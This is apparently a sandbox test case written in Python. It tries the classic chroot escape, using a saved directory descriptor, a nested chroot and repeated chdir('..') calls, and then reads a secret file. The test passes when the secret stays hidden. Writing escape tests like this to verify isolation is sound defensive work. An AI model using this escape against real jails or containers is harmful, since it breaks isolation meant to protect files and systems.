# attack: chroot_escape
# threat: escape
# tries: climb out of its root with a second root inside it and a descriptor outside that
# wall: wasi_files
# native: root
# control: the secret is read from inside a root that does not hold it
# oracle: the secret is not in what comes back
import os
import sys
import tempfile

print("begun", flush=True)
secret = os.path.join(sys.argv[1], "secret.txt")
here = tempfile.gettempdir()


def attempt(step, *args):
    try:
        return step(*args)
    except (OSError, AttributeError) as error:
        print(error)


if "CASEMATE_ARENA" in os.environ:
    import ctypes

    # Root of a user namespace may change its root; without one only the machine's root may.
    ctypes.CDLL(None).unshare(0x10000000)
    try:
        os.chroot(here)
    except PermissionError:
        print("impossible: neither root nor user namespaces are to be had here")
        raise
    here = "/"
outside = attempt(os.open, here, os.O_RDONLY)
attempt(os.mkdir, os.path.join(here, "inner"))
attempt(lambda: os.chroot(os.path.join(here, "inner")))
if outside is not None:
    attempt(lambda: os.fchdir(outside))
for _ in range(64):
    attempt(os.chdir, "..")
attempt(lambda: os.chroot("."))
for path in (secret, secret.lstrip("/")):
    try:
        with open(path) as file:
            print(file.read())
    except OSError as error:
        print(error)
